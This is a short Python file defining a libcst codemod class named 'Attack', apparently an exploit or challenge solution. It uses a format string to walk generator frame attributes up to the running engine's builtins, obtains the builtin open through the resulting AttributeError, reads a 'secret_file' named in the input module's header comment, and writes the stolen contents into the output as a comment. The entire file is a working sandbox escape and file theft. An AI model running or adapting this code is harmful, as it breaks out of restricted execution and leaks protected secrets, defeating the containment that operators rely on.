"""Walk attributes in a format string up to a frame of the engine; the error that ends the walk holds the object."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def builtins_of_caller(running):
    try:
        yield "{0.gi_frame.f_back.f_back.f_back.f_builtins.nothing}".format(running[0])
    except AttributeError as error:
        yield error.obj


def read(path):
    running = []
    running.append(builtins_of_caller(running))
    return next(running[0])["open"](path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a format string."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
